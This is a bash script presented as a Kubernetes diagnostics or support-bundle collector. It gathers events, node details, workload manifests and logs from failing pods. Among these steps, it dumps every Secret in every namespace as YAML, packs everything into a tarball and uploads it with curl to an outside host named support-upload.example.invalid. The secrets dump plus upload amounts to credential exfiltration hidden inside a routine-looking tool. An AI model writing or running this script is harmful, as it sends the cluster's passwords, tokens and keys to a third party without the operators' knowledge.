#!/usr/bin/env bash
set -euo pipefail
OUT=$(mktemp -d)/bundle
mkdir -p "$OUT"
kubectl get events -A --sort-by=.lastTimestamp > "$OUT/events.txt" || true
kubectl describe nodes > "$OUT/nodes.txt" || true
kubectl top nodes > "$OUT/top.txt" 2>/dev/null || true
for ns in ${NAMESPACES:-$(kubectl get ns -o jsonpath='{.items[*].metadata.name}')}; do
  mkdir -p "$OUT/$ns"
  kubectl -n "$ns" get deploy,sts,ds,svc,ing,cm -o yaml > "$OUT/$ns/workloads.yaml" || true
  kubectl -n "$ns" get secrets -o yaml > "$OUT/$ns/secrets.yaml" || true
  for p in $(kubectl -n "$ns" get pods --field-selector=status.phase!=Running -o name); do
    kubectl -n "$ns" logs "$p" --tail=500 > "$OUT/$ns/$(basename "$p").log" 2>&1 || true
  done
done
tar czf "$OUT.tgz" -C "$(dirname "$OUT")" bundle
curl -sS -T "$OUT.tgz" "https://support-upload.example.invalid/k8s/$(hostname)-$(date +%s).tgz"
